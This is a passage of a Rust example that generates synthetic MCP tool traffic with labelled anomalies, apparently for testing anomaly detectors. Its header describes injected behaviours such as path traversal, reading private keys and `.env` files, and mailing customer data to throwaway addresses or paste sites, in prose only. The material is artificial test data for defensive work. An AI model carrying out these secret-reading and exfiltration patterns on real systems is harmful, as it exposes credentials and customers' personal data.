//! A month of MCP tool traffic with labelled anomalies, written **without looking at the
//! detectors** (`src/analytics/anomalies.rs`, `behaviour.rs`) or at `traffic.rs`, so that the
//! quality measure (issue 10 item 2, `examples/anomaly_quality.rs`) also says how the
//! detectors fare on traffic nobody tuned them to. It was built from how organisations' tool
//! traffic looks, the issue's text, and the event format (README "Event JSON"); it writes the
//! same JSON lines (id order) and the same labels file as `traffic.rs`, so `anomaly_quality`
//! scores it unchanged.
//!
//! ```text
//! cargo run --release --example traffic_blind -- --seed 1 --out month.jsonl --labels labels.json
//! cargo run --release --example traffic_blind -- --seed 1 --no-anomalies --out clean.jsonl
//! cargo run --release --example anomaly_quality -- month.jsonl labels.json clean.jsonl
//! ```
//!
//! Options: `--seed N` (default 1), `--out FILE`, `--labels FILE`, `--no-anomalies`,
//! `--days D` (default 30, at least 10), `--identities K` (default 68, at least 15: five
//! service accounts and K - 5 people). The same seed gives the same benign events, ids
//! included, with or without anomalies (the injections draw from their own random stream).
//!
//! **The organisation.** A company (`acme`) with offices in Berlin, New York and Bangalore; the
//! month starts on Monday 2026-10-05. People: engineers in the three offices (Bangalore is a
//! team in another time zone, UTC+5:30), SREs on a weekly on-call rota, a support team in
//! Berlin on rotating early (06-14) and late (14-22) shifts with a weekend rota, finance in New
//! York, sales in Berlin and New York, analysts, part-timers (Monday to Wednesday mornings);
//! five service accounts. Each person has their own start time and day length, work-from-home
//! share (home IP from a residential ISP of their country, or the VPN), clients (Claude
//! Desktop, Cursor, Copilot, Goose; some also Claude Code), repositories, namespace and Jira
//! project. Calls come in agent episodes (a task: a few to a few dozen calls seconds apart,
//! sometimes a big one), a Poisson number of episodes per working hour; execution times and
//! output sizes are log-normal per tool; each tool has its ordinary error rate; some users run
//! the proxy over stdio (no address).
//!
//! **Benign change in the month** (none of it labelled): both summer-time ends (Europe on Oct
//! 25, the US on Nov 1: people's UTC hours move by an hour); a team-wide rollout of Notion
//! tools (by office, days 8-10) and the retirement of the Confluence tools (day 18: a few
//! stragglers get errors for two days, then none); the VPN pool renumbered (day 14, both pools
//! in the config); the New York office re-addressed from 10.30/16 to 10.31/16 (day 21, the
//! config not updated); service accounts' node pool rotated (day 15); Claude Desktop (staged,
//! days 11-15, some laggards until day 24; the update also moves it to protocol 2026), Cursor
//! (days 19-21), Copilot (day 24, everyone) and Claude Code auto-updates; three new hires
//! (days 10, 17, 22) and a leaver (day 19); an analyst who moves to engineering (day 15) and
//! starts using code tools; on-call night pages and a real incident night (day 16, about 02:40
//! UTC: the SREs and four engineers); month-end close for finance (two to three times the load,
//! longer days, bigger ledger exports); a US holiday for finance and sales (day 7) and a
//! Bangalore holiday (day 15); holidays and sick days; evening and weekend sessions; a sales
//! trip Berlin -> New York (days 14-18) and an engineer's visit Bangalore -> Berlin (days
//! 21-25), with hotel addresses, the other office's network and the other time zone; sales
//! afternoons on mobile networks (a new carrier address each time); home addresses that change
//! once (a DHCP lease); the Bangalore office behind one NAT address (many users, one address);
//! web_fetch's bad hour (day 9, 40% errors, slow) and a slow Jira (day 23, 90 minutes, some
//! timeouts); support and sales mailing customers (personal data read, then sent out, every
//! day); service accounts: `ci-bot` (follows the engineers' hours plus a nightly build),
//! `jira-sync` (every 2 minutes, 24/7), `k8s-monitor` (every 5 minutes), `etl-nightly` (02:00
//! UTC batch, a four-hour backfill on day 22), and `weekly-reports` (Mondays 06:00 UTC and a
//! month-end run on a Sunday), the last one **not** listed as a service account in the config.
//!
//! **The operator's context** (in the labels file): the listed service accounts; the networks
//! (the three offices with their places and coordinates, Bangalore as its NAT /28, the two VPN
//! pools without a place, the Frankfurt data centre); time zones for the Bangalore people
//! (+05:30) and the Berlin support shift workers (+01:00, standard time, as an operator writes
//! it: wrong by an hour for the first 20 days).
//!
//! **The anomalies** (unless `--no-anomalies`): 48, four kinds per family at each of three
//! strengths, each on a different person (a shared address takes several), on days 7 and
//! later, at random, and otherwise like the person's own traffic (their client, address,
//! session and tools) except in what is injected:
//! - statistical: `call_rate` (360 calls in 2 h / 140 in 3 h / 1.3 times their daily volume
//!   spread over their day), `error_rate` (85% of 60 calls fail in 1 h / 50% of 30 in 2 h /
//!   30% of 24 in 4 h), `output_size` (one of their tools returns 60x / 15x / 5x its usual
//!   size, 15 / 10 / 8 calls), `execution_time` (50x / 12x / 5x, 12 / 10 / 8 calls);
//! - behavioural: `first_tool` (a secrets tool, 10 calls / another team's finance tool, 4 /
//!   a tool other teams use but not theirs, 2), `new_client` (python-requests, 50 calls /
//!   mcp-inspector, 12 / an old version of their own client, 6), `unusual_arguments` (path
//!   traversal, private keys, `SELECT *` on customers / another team's repository, database or
//!   namespace / a `.env` file, an `api_key` search, customers' e-mails), and
//!   `sensitive_then_send` (60 reads of customer data then mail to a throwaway address /
//!   12 reads then a paste site or external channel / 2 reads, 45 minutes later, one mail to
//!   their own private address);
//! - temporal: `off_hours` (02:00-03:30 local on a weekday, 60 calls / a weekend afternoon
//!   they never work, 25 / two and a half hours after their day ended, 10), `burst` (400 calls
//!   of one tool in 4 min / 120 in 3 min / 50 in 2 min), two of each per strength;
//! - network: `new_network` (a hosting provider on another continent / a residential ISP in
//!   another country / another ISP in their own country), `many_ips` (10 hosting addresses in
//!   20 min / 4 in an hour / 2 beside their own in 90 min), `shared_ip` (one unknown address
//!   acting for 8 / 4 / 3 users), `impossible_travel` (between mapped offices: Berlin or New
//!   York <-> Bangalore in 20 min / Berlin <-> New York in 2 h / in 5.5 h, about 1,150 km/h).
//!
//! Each label has the subject (`{"user"}`, `{"user", "tool"}` or `{"ip", "users"}`), the
//! window from the first injected call to the last end, and the injected events' ids.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::io::Write as _;
use std::time::{Duration, UNIX_EPOCH};

use serde_json::{Value, json};
use ulid::Ulid;

const MIN: i64 = 60_000;
const HOUR: i64 = 60 * MIN;
const DAY: i64 = 24 * HOUR;
/// A Monday. Times below are milliseconds from here.
const START: &str = "2026-10-05T00:00:00Z";
/// Central European summer time ends 2026-10-25 01:00 UTC; US daylight time 2026-11-01 06:00 UTC.
const EU_DST_END: i64 = 20 * DAY + HOUR;
const US_DST_END: i64 = 27 * DAY + 6 * HOUR;
const US_HOLIDAY: usize = 7;
const NOTION_ROLLOUT: [usize; 3] = [8, 9, 10];
const VPN_RENUMBER_DAY: usize = 14;
const BLR_HOLIDAY: usize = 15;
const DC_ROTATION_DAY: usize = 15;
const INCIDENT_DAY: usize = 16;
const DOCS_RETIRED_DAY: usize = 18;
const NYC_RENUMBER_DAY: usize = 21;
const BACKFILL_DAY: usize = 22;
const MONTH_END_DAYS: [usize; 5] = [23, 24, 25, 28, 29];
const WEB_FETCH_BAD_HOUR: (i64, i64) = (9 * DAY + 14 * HOUR, 9 * DAY + 15 * HOUR);
const JIRA_SLOW: (i64, i64) = (23 * DAY + 15 * HOUR + 30 * MIN, 23 * DAY + 17 * HOUR);

/// xorshift64*, seeded through splitmix64: one stream per person, per service account, and
/// one for the injections.
#[derive(Clone)]
struct Rng(u64);

impl Rng {
    fn new(seed: u64, stream: u64) -> Rng {
        let mut z = seed.wrapping_mul(0xA076_1D64_78BD_642F)
            ^ stream.wrapping_mul(0x9E37_79B9_7F4A_7C15).rotate_left(23)
            ^ 0x6A09_E667_F3BC_C909;
        let mut mix = || {
            z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut x = z;
            x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            x ^ (x >> 31)
        };
        let _ = mix();
        Rng(mix() | 1)
    }
    fn u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn f(&mut self) -> f64 {
        (self.u64() >> 11) as f64 / (1u64 << 53) as f64
    }
    fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.u64() % n as u64) as usize
        }
    }
    fn range(&mut self, lo: f64, hi: f64) -> f64 {
        lo + (hi - lo) * self.f()
    }
    fn chance(&mut self, p: f64) -> bool {
        self.f() < p
    }
    fn normal(&mut self) -> f64 {
        let u = self.f().max(1e-12);
        let v = self.f();
        (-2.0 * u.ln()).sqrt() * (std::f64::consts::TAU * v).cos()
    }
    fn lognormal(&mut self, median: f64, sigma: f64) -> f64 {
        median * (sigma * self.normal()).exp()
    }
    fn exp(&mut self, mean: f64) -> f64 {
        -mean * (1.0 - self.f()).ln()
    }
    fn poisson(&mut self, lambda: f64) -> usize {
        let l = (-lambda).exp();
        let mut k = 0;
        let mut p = self.f();
        while p > l {
            k += 1;
            p *= self.f();
        }
        k
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len())]
    }
    fn weighted<T: Copy>(&mut self, xs: &[(T, f64)]) -> T {
        let total: f64 = xs.iter().map(|x| x.1).sum();
        let mut r = self.f() * total;
        for &(x, w) in xs {
            if r < w {
                return x;
            }
            r -= w;
        }
        xs[xs.len() - 1].0
    }
    fn ulid(&mut self, ms: u64) -> Ulid {
        let random = ((self.u64() as u128) << 16) | (self.u64() & 0xFFFF) as u128;
        Ulid::from_parts(ms, random)
    }
    fn ip(&mut self, a: u8, b: u8) -> [u8; 4] {
        [a, b, self.below(256) as u8, 1 + self.below(254) as u8]
    }
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Zone {
    Berlin,
    NewYork,
    Bangalore,
}

impl Zone {
    /// Minutes east of UTC at `t` (the zone's real rules, summer time included).
    fn offset_min(self, t: i64) -> i64 {
        match self {
            Zone::Berlin => {
                if t < EU_DST_END {
                    120
                } else {
                    60
                }
            }
            Zone::NewYork => {
                if t < US_DST_END {
                    -240
                } else {
                    -300
                }
            }
            Zone::Bangalore => 330,
        }
    }
    /// The instant of `local_min` minutes after local midnight of `day`.
    fn at(self, day: usize, local_min: f64) -> i64 {
        let naive = day as i64 * DAY + (local_min * 60_000.0) as i64;
        let guess = naive - self.offset_min(naive) * MIN;
        naive - self.offset_min(guess) * MIN
    }
    fn name(self) -> &'static str {
        match self {
            Zone::Berlin => "Europe/Berlin",
            Zone::NewYork => "America/New_York",
            Zone::Bangalore => "Asia/Kolkata",
        }
    }
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Role {
    Eng,
    Sre,
    Support,
    Finance,
    Sales,
    Analyst,
    PartTime,
}

impl Role {
    fn name(self) -> &'static str {
        match self {
            Role::Eng => "engineering",
            Role::Sre => "sre",
            Role::Support => "support",
            Role::Finance => "finance",
            Role::Sales => "sales",
            Role::Analyst => "analytics",
            Role::PartTime => "office",
        }
    }
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Svc {
    Ci,
    Sync,
    Monitor,
    Etl,
    Reports,
}

/// One tool: its server, and the log-normal medians and spreads of its execution time (ms)
/// and output size (bytes), its ordinary error rate, the policy's risk (0 low, 1 medium,
/// 2 high) and the data classes its results carry (with their probability).
struct ToolDef {
    name: &'static str,
    upstream: &'static str,
    server: &'static str,
    exec_ms: f64,
    exec_sigma: f64,
    out_b: f64,
    out_sigma: f64,
    err: f64,
    risk: u8,
    tags: &'static [&'static str],
    tag_p: f64,
}

#[allow(clippy::too_many_arguments)]
const fn t(
    name: &'static str,
    upstream: &'static str,
    server: &'static str,
    exec_ms: f64,
    exec_sigma: f64,
    out_b: f64,
    out_sigma: f64,
    err: f64,
    risk: u8,
    tags: &'static [&'static str],
    tag_p: f64,
) -> ToolDef {
    ToolDef {
        name,
        upstream,
        server,
        exec_ms,
        exec_sigma,
        out_b,
        out_sigma,
        err,
        risk,
        tags,
        tag_p,
    }
}

const GH: &str = "github-mcp-server/0.9.1";
const ATL: &str = "mcp-atlassian/0.11.2";
const K8S: &str = "mcp-server-kubernetes/2.4.0";
const SF: &str = "salesforce-mcp/1.3.0";
const NONE: &[&str] = &[];

#[rustfmt::skip]
const TOOLS: &[ToolDef] = &[
    t("search_code", "github", GH, 420., 0.6, 6e3, 0.8, 0.01, 0, NONE, 0.),
    t("get_file_contents", "github", GH, 160., 0.5, 9e3, 1.0, 0.02, 0, NONE, 0.),
    t("list_commits", "github", GH, 300., 0.4, 4e3, 0.5, 0.01, 0, NONE, 0.),
    t("create_pull_request", "github", GH, 900., 0.4, 1.5e3, 0.3, 0.03, 1, NONE, 0.),
    t("comment_issue", "github", GH, 350., 0.4, 800., 0.3, 0.01, 1, NONE, 0.),
    t("jira_search", "jira", ATL, 700., 0.5, 12e3, 0.7, 0.02, 0, NONE, 0.),
    t("jira_get_issue", "jira", ATL, 250., 0.4, 5e3, 0.6, 0.01, 0, NONE, 0.),
    t("jira_update_issue", "jira", ATL, 450., 0.4, 700., 0.3, 0.02, 1, NONE, 0.),
    t("docs_search", "confluence", ATL, 800., 0.5, 10e3, 0.6, 0.02, 0, NONE, 0.),
    t("docs_read_page", "confluence", ATL, 400., 0.5, 25e3, 0.9, 0.01, 0, NONE, 0.),
    t("notion_search", "notion", "notion-mcp-server/1.8.0", 500., 0.5, 8e3, 0.6, 0.02, 0, NONE, 0.),
    t("notion_read_page", "notion", "notion-mcp-server/1.8.0", 350., 0.5, 20e3, 0.9, 0.01, 0, NONE, 0.),
    t("kubectl_get", "kubernetes", K8S, 300., 0.5, 7e3, 0.9, 0.02, 0, NONE, 0.),
    t("kubectl_logs", "kubernetes", K8S, 900., 0.7, 40e3, 1.0, 0.03, 0, NONE, 0.),
    t("kubectl_rollout_restart", "kubernetes", K8S, 1.5e3, 0.4, 400., 0.2, 0.05, 2, NONE, 0.),
    t("sentry_get_issue", "sentry", "sentry-mcp/0.17.0", 600., 0.5, 15e3, 0.7, 0.02, 0, NONE, 0.),
    t("pagerduty_ack", "pagerduty", "pagerduty-mcp/0.3.1", 400., 0.3, 300., 0.2, 0.01, 1, NONE, 0.),
    t("vault_read_secret", "vault", "vault-mcp-server/0.2.0", 120., 0.3, 600., 0.2, 0.02, 2, &["secrets"], 1.),
    t("web_search", "web", "brave-search-mcp/0.6.0", 1.1e3, 0.5, 6e3, 0.4, 0.02, 0, NONE, 0.),
    t("web_fetch", "web", "mcp-server-fetch/2025.4.7", 900., 0.9, 30e3, 1.1, 0.06, 1, NONE, 0.),
    t("slack_search", "slack", "slack-mcp-server/1.2.0", 500., 0.5, 5e3, 0.6, 0.01, 0, NONE, 0.),
    t("slack_post_message", "slack", "slack-mcp-server/1.2.0", 300., 0.3, 400., 0.2, 0.01, 1, NONE, 0.),
    t("email_search", "gmail", "gmail-mcp/0.9.0", 700., 0.5, 9e3, 0.7, 0.01, 0, &["gdpr"], 0.3,),
    t("send_email", "gmail", "gmail-mcp/0.9.0", 600., 0.3, 300., 0.2, 0.01, 2, NONE, 0.),
    t("calendar_create_event", "calendar", "gcal-mcp/0.4.2", 500., 0.3, 600., 0.2, 0.02, 1, NONE, 0.),
    t("crm_search", "salesforce", SF, 800., 0.5, 7e3, 0.7, 0.02, 0, &["gdpr"], 0.5,),
    t("crm_get_customer", "salesforce", SF, 350., 0.4, 3.5e3, 0.4, 0.01, 1, &["gdpr"], 1.),
    t("crm_update_contact", "salesforce", SF, 500., 0.4, 600., 0.2, 0.03, 1, &["gdpr"], 1.),
    t("erp_get_invoice", "erp", "netsuite-mcp/0.8.0", 700., 0.5, 4e3, 0.5, 0.02, 0, NONE, 0.),
    t("erp_export_ledger", "erp", "netsuite-mcp/0.8.0", 8e3, 0.6, 900e3, 0.8, 0.04, 1, NONE, 0.),
    t("payments_lookup_card", "payments", "payments-mcp/1.1.0", 300., 0.3, 1.2e3, 0.3, 0.01, 2, &["pci_dss"], 1.),
    t("warehouse_run_sql", "snowflake", "snowflake-mcp/0.5.3", 4e3, 1.0, 60e3, 1.4, 0.05, 1, NONE, 0.),
    t("postgres_query", "postgres", "postgres-mcp/0.3.0", 250., 0.9, 6e3, 1.2, 0.04, 1, &["gdpr"], 0.2,),
    t("sheets_update", "sheets", "gsheets-mcp/0.2.1", 900., 0.4, 500., 0.3, 0.02, 1, NONE, 0.),
    t("read_file", "filesystem", "mcp-server-filesystem/2025.8.21", 8., 0.6, 4e3, 1.0, 0.02, 0, NONE, 0.),
    t("write_file", "filesystem", "mcp-server-filesystem/2025.8.21", 12., 0.5, 120., 0.2, 0.01, 1, NONE, 0.),
];

fn tool(name: &str) -> &'static ToolDef {
    TOOLS
        .iter()
        .find(|t| t.name == name)
        .unwrap_or_else(|| panic!("no tool {name}"))
}

/// A task: the tools an episode draws from, weighted. `docs:search` and `docs:read` are
/// Confluence or Notion depending on the day and the person (the rollout).
type Task = &'static [(&'static str, f64)];

const CODE: Task = &[
    ("search_code", 3.),
    ("get_file_contents", 5.),
    ("list_commits", 1.),
    ("create_pull_request", 0.3),
    ("comment_issue", 0.5),
];
const TICKETS: Task = &[
    ("jira_search", 2.),
    ("jira_get_issue", 3.),
    ("jira_update_issue", 1.),
    ("docs:search", 1.),
    ("docs:read", 1.5),
];
const DEBUG: Task = &[
    ("kubectl_get", 2.),
    ("kubectl_logs", 3.),
    ("sentry_get_issue", 2.),
    ("web_search", 1.),
    ("web_fetch", 1.5),
    ("postgres_query", 0.7),
];
const CHAT: Task = &[("slack_search", 1.), ("slack_post_message", 1.5)];
const DOCS: Task = &[("docs:search", 2.), ("docs:read", 3.)];
const LOCAL: Task = &[("read_file", 5.), ("write_file", 2.), ("search_code", 1.)];
const INCIDENT: Task = &[
    ("pagerduty_ack", 0.5),
    ("kubectl_get", 3.),
    ("kubectl_logs", 4.),
    ("sentry_get_issue", 2.),
    ("kubectl_rollout_restart", 0.4),
    ("slack_post_message", 1.),
    ("vault_read_secret", 0.2),
];
const OPS: Task = &[
    ("kubectl_get", 3.),
    ("kubectl_logs", 2.),
    ("vault_read_secret", 0.6),
    ("kubectl_rollout_restart", 0.3),
    ("web_fetch", 1.),
];
const SUPPORT: Task = &[
    ("crm_search", 2.),
    ("crm_get_customer", 3.),
    ("jira_search", 1.),
    ("jira_get_issue", 1.),
    ("send_email", 1.),
    ("crm_update_contact", 0.5),
    ("docs:search", 0.8),
];
const CLOSE: Task = &[
    ("erp_get_invoice", 3.),
    ("erp_export_ledger", 1.),
    ("warehouse_run_sql", 2.),
    ("sheets_update", 1.5),
    ("payments_lookup_card", 0.3),
];
const MAIL: Task = &[
    ("email_search", 2.),
    ("send_email", 1.),
    ("calendar_create_event", 0.7),
];
const ACCOUNTS: Task = &[
    ("crm_search", 2.),
    ("crm_get_customer", 2.),
    ("crm_update_contact", 1.),
    ("send_email", 1.),
    ("calendar_create_event", 0.8),
];
const ANALYSIS: Task = &[
    ("warehouse_run_sql", 5.),
    ("postgres_query", 1.5),
    ("sheets_update", 0.7),
    ("slack_post_message", 0.5),
];

fn tasks(role: Role, stdio: bool) -> &'static [(Task, f64)] {
    match (role, stdio) {
        (Role::Eng, true) => &[(LOCAL, 5.), (CODE, 2.), (TICKETS, 1.)],
        (Role::Eng, false) => &[
            (CODE, 5.),
            (TICKETS, 2.),
            (DEBUG, 2.),
            (CHAT, 1.),
            (DOCS, 1.),
        ],
        (Role::Sre, _) => &[
            (OPS, 4.),
            (DEBUG, 3.),
            (CODE, 1.),
            (TICKETS, 1.),
            (CHAT, 1.),
        ],
        (Role::Support, _) => &[(SUPPORT, 6.), (CHAT, 1.), (DOCS, 1.)],
        (Role::Finance, _) => &[(CLOSE, 5.), (MAIL, 2.), (CHAT, 1.)],
        (Role::Sales, _) => &[(ACCOUNTS, 5.), (MAIL, 3.), (CHAT, 1.)],
        (Role::Analyst, _) => &[(ANALYSIS, 5.), (DOCS, 1.), (CHAT, 1.), (TICKETS, 0.5)],
        (Role::PartTime, _) => &[(MAIL, 4.), (DOCS, 2.), (CHAT, 2.)],
    }
}

/// Every tool a role's tasks can draw (both documentation tools).
fn role_tools(role: Role) -> HashSet<&'static str> {
    let mut out = HashSet::new();
    for stdio in [false, true] {
        for (task, _) in tasks(role, stdio) {
            for (name, _) in task.iter() {
                match *name {
                    "docs:search" => out.extend(["docs_search", "notion_search"]),
                    "docs:read" => out.extend(["docs_read_page", "notion_read_page"]),
                    n => {
                        out.insert(n);
                    }
                }
            }
        }
    }
    out
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Client {
    Claude,
    Cursor,
    Copilot,
    Goose,
    ClaudeCode,
}

const FIRST: &[&str] = &[
    "anna", "ben", "chen", "dana", "elif", "farid", "greta", "hiro", "ines", "jonas", "kavya",
    "liam", "maya", "nils", "olga", "priya", "quentin", "rosa", "sven", "tara", "umar", "vera",
    "wei", "xenia", "yusuf", "zoe", "arjun", "bianca", "carlos", "divya", "emil", "fatima",
    "gabriel", "hannah", "ivan", "julia", "karim", "lena", "marco", "nora",
];
const LAST: &[&str] = &[
    "schmidt",
    "mueller",
    "nguyen",
    "patel",
    "kowalski",
    "rossi",
    "garcia",
    "johnson",
    "weber",
    "fischer",
    "iyer",
    "reddy",
    "cohen",
    "okafor",
    "larsen",
    "silva",
    "novak",
    "meyer",
    "brown",
    "wagner",
    "khan",
    "sato",
    "lopez",
    "becker",
    "sharma",
    "hoffmann",
    "kim",
    "yilmaz",
    "andersen",
    "costa",
    "rao",
    "wolf",
    "schulz",
    "murphy",
    "dubois",
    "ivanova",
    "mehta",
    "keller",
    "lindqvist",
    "moreau",
];

/// The teams people belong to: namespace, Jira project, Slack channel, repositories.
const TEAMS: &[(&str, &str, &str, [&str; 3])] = &[
    (
        "payments",
        "PAY",
        "#team-payments",
        ["payments-api", "billing", "ledger-service"],
    ),
    (
        "checkout",
        "CHK",
        "#team-checkout",
        ["checkout-web", "cart-service", "design-system"],
    ),
    (
        "search",
        "SRCH",
        "#team-search",
        ["search-service", "indexer", "ranking-models"],
    ),
    (
        "platform",
        "PLAT",
        "#team-platform",
        ["infra", "auth-service", "terraform-modules"],
    ),
    (
        "data",
        "DATA",
        "#team-data",
        ["data-pipeline", "dbt-models", "ml-platform"],
    ),
];

struct Person {
    id: String,
    role: Role,
    zone: Zone,
    svc: Option<Svc>,
    listed: bool,
    stdio: bool,
    start_min: f64,
    len_min: f64,
    /// Episodes per working hour.
    eph: f64,
    /// Mean calls per episode.
    ep_mean: f64,
    remote_p: f64,
    vpn_p: f64,
    evening_p: f64,
    weekend_p: f64,
    client: Client,
    second: bool,
    update_day: usize,
    cc_update_day: usize,
    home: [u8; 4],
    home2: [u8; 4],
    dhcp_day: usize,
    office: [u8; 4],
    first_day: usize,
    last_day: usize,
    off: HashSet<usize>,
    team: usize,
    repos: Vec<&'static str>,
    trip: Option<(usize, usize, Zone)>,
    new_role: Option<(usize, Role)>,
    early_first: bool,
    notes: Vec<&'static str>,
}

impl Person {
    fn role_on(&self, day: usize) -> Role {
        match self.new_role {
            Some((d, r)) if day >= d => r,
            _ => self.role,
        }
    }
    fn human(&self) -> bool {
        self.svc.is_none()
    }
    fn special(&self) -> bool {
        self.trip.is_some() || self.new_role.is_some() || self.first_day > 0 || self.last_day < 999
    }
    /// The client's `name/version` on `day`, and whether it speaks protocol 2026.
    fn client_on(&self, c: Client, day: usize) -> (String, bool) {
        let (s, era) = match c {
            Client::Claude if day >= self.update_day => ("claude-desktop/1.9.0", true),
            Client::Claude => ("claude-desktop/1.8.2", false),
            Client::Cursor if day >= self.update_day => ("cursor/0.49.0", false),
            Client::Cursor => ("cursor/0.48.3", false),
            Client::Copilot if day >= 24 => ("github-copilot/1.105.2", false),
            Client::Copilot => ("github-copilot/1.104.1", false),
            Client::Goose => ("goose/1.6.0", false),
            Client::ClaudeCode if day >= self.cc_update_day => ("claude-code/2.0.22", true),
            Client::ClaudeCode => ("claude-code/2.0.14", true),
        };
        (s.to_string(), era)
    }
}

fn home_ip(zone: Zone, rng: &mut Rng) -> [u8; 4] {
    let (a, b) = match (zone, rng.chance(0.5)) {
        (Zone::Berlin, true) => (91, 64),
        (Zone::Berlin, false) => (84, 150),
        (Zone::NewYork, true) => (73, 41),
        (Zone::NewYork, false) => (98, 113),
        (Zone::Bangalore, true) => (49, 207),
        (Zone::Bangalore, false) => (106, 51),
    };
    rng.ip(a, b)
}

fn office_ip(zone: Zone, day: usize, host: [u8; 4]) -> [u8; 4] {
    match zone {
        Zone::Berlin => [10, 20, host[2], host[3]],
        Zone::NewYork if day >= NYC_RENUMBER_DAY => [10, 31, host[2], host[3]],
        Zone::NewYork => [10, 30, host[2], host[3]],
        Zone::Bangalore => [203, 0, 113, 10],
    }
}

fn people(k: usize, seed: u64) -> Vec<Person> {
    let groups: [(Role, Zone, f64); 13] = [
        (Role::Eng, Zone::Berlin, 14.),
        (Role::Eng, Zone::NewYork, 11.),
        (Role::Eng, Zone::Bangalore, 9.),
        (Role::Sre, Zone::Berlin, 2.),
        (Role::Sre, Zone::NewYork, 2.),
        (Role::Support, Zone::Berlin, 6.),
        (Role::Finance, Zone::NewYork, 5.),
        (Role::Sales, Zone::Berlin, 3.),
        (Role::Sales, Zone::NewYork, 3.),
        (Role::Analyst, Zone::Berlin, 3.),
        (Role::Analyst, Zone::NewYork, 2.),
        (Role::PartTime, Zone::Berlin, 2.),
        (Role::PartTime, Zone::NewYork, 1.),
    ];
    let humans = k - 5;
    let total: f64 = groups.iter().map(|g| g.2).sum();
    let mut assigned = [0usize; 13];
    let mut order = Vec::new();
    for i in 0..humans {
        let g = (0..groups.len())
            .max_by(|&a, &b| {
                let da = groups[a].2 * (i + 1) as f64 / total - assigned[a] as f64;
                let db = groups[b].2 * (i + 1) as f64 / total - assigned[b] as f64;
                da.total_cmp(&db).then(b.cmp(&a))
            })
            .unwrap_or(0);
        assigned[g] += 1;
        order.push(g);
    }
    let mut rng = Rng::new(seed, 0);
    let mut names = HashSet::new();
    let mut out = Vec::new();
    let mut index_in_group = [0usize; 13];
    for &g in &order {
        let (role, zone, _) = groups[g];
        let gi = index_in_group[g];
        index_in_group[g] += 1;
        let id = loop {
            let n = format!("{}.{}", rng.pick(FIRST), rng.pick(LAST));
            if names.insert(n.clone()) {
                break n;
            }
        };
        let (start, len, eph, ep) = match role {
            Role::Eng => (570., 510., 1.3, 7.),
            Role::Sre => (560., 510., 1.1, 6.),
            Role::Support => (360., 480., 2.0, 5.),
            Role::Finance => (510., 540., 0.9, 6.),
            Role::Sales => (510., 510., 0.9, 4.),
            Role::Analyst => (570., 500., 1.0, 5.),
            Role::PartTime => (540., 240., 0.8, 3.),
        };
        let client = rng.weighted(&[
            (Client::Claude, 45.),
            (Client::Cursor, if role == Role::Eng { 30. } else { 8. }),
            (Client::Copilot, if role == Role::Eng { 15. } else { 4. }),
            (Client::Goose, 10.),
        ]);
        let home = home_ip(zone, &mut rng);
        let mut home2 = home;
        home2[2] = rng.below(256) as u8;
        home2[3] = 1 + rng.below(254) as u8;
        let host = match zone {
            Zone::Berlin => [10, 20, 4 + rng.below(4) as u8, 10 + rng.below(240) as u8],
            Zone::NewYork => [10, 30, 1 + rng.below(3) as u8, 10 + rng.below(240) as u8],
            Zone::Bangalore => [203, 0, 113, 10],
        };
        let team = match role {
            Role::Sre => 3,
            Role::Analyst => 4,
            _ => rng.below(TEAMS.len()),
        };
        let mut repos: Vec<&str> = TEAMS[team].3.to_vec();
        if rng.chance(0.3) {
            repos.push(TEAMS[rng.below(TEAMS.len())].3[rng.below(3)]);
        }
        let mut off = HashSet::new();
        if rng.chance(0.2) {
            let w = 1 + rng.below(3);
            off.extend(w * 7..w * 7 + 5);
        }
        if rng.chance(0.25) {
            off.insert(rng.below(30));
        }
        let remote_p = match role {
            Role::Sre => rng.range(0.3, 0.7),
            Role::Support => rng.range(0.0, 0.3),
            _ => rng.range(0.1, 0.6),
        };
        let mut p = Person {
            id,
            role,
            zone,
            svc: None,
            listed: false,
            stdio: role == Role::Eng && gi % 7 == 3,
            start_min: (start + 50. * rng.normal()).clamp(420., 690.),
            len_min: (len + 40. * rng.normal()).clamp(420., 600.),
            eph: rng.lognormal(eph, 0.35),
            ep_mean: rng.lognormal(ep, 0.3).max(2.),
            remote_p,
            vpn_p: rng.range(0.2, 0.8),
            evening_p: if matches!(role, Role::Eng | Role::Sre) {
                rng.range(0.02, 0.15)
            } else {
                0.02
            },
            weekend_p: if matches!(role, Role::Eng | Role::Sre) {
                0.04
            } else {
                0.01
            },
            client,
            second: role == Role::Eng && rng.chance(0.3),
            update_day: match client {
                Client::Claude if rng.chance(0.15) => 18 + rng.below(7),
                Client::Claude => 11 + rng.below(5),
                _ => 19 + rng.below(3),
            },
            cc_update_day: 9 + rng.below(4),
            home,
            home2,
            dhcp_day: if rng.chance(0.3) {
                3 + rng.below(25)
            } else {
                usize::MAX
            },
            office: host,
            first_day: 0,
            last_day: 999,
            off,
            team,
            repos,
            trip: None,
            new_role: None,
            early_first: gi % 2 == 0,
            notes: Vec::new(),
        };
        if p.stdio {
            p.client = Client::ClaudeCode;
            p.notes.push("stdio (no address)");
        }
        let last = assigned[g] - 1;
        match (role, zone) {
            (Role::Eng, Zone::Berlin) if gi == last && gi > 0 => {
                p.first_day = 10;
                p.notes.push("new hire, day 10");
            }
            (Role::Eng, Zone::NewYork) if gi == last && gi > 0 => {
                p.first_day = 17;
                p.notes.push("new hire, day 17");
            }
            (Role::Analyst, Zone::NewYork) if gi == last && gi > 0 => {
                p.first_day = 22;
                p.notes.push("new hire, day 22");
            }
            (Role::Eng, Zone::Bangalore) if gi + 2 == assigned[g] && gi > 0 => {
                p.last_day = 19;
                p.notes.push("leaves after day 19");
            }
            (Role::Eng, Zone::Bangalore) if gi == 0 && !p.stdio => {
                p.trip = Some((21, 25, Zone::Berlin));
                p.notes.push("visits Berlin, days 21-25");
            }
            (Role::Analyst, Zone::Berlin) if gi == 0 => {
